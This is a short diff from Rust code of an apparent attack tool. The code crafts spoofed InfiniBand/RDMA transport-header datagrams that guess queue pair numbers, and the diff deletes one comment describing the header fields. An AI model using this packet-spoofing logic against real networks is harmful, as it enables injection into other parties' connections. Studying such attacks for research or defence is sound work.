@@ -194,7 +194,6 @@ impl Attacker {
             let guess =
                 FIRST_REACTOR | (self.begun.wrapping_mul(STEP) >> (64 - NUMBER_BITS)) as u32;
             let mut datagram = [0xa5; 64];
-            // BTH: opcode, flags, partition key, reserved byte and queue pair number.
             let [_, number @ ..] = guess.to_be_bytes();
             datagram[..5].copy_from_slice(&[SEND_ONLY, 0, 0xff, 0xff, 0]);
             datagram[5..8].copy_from_slice(&number);
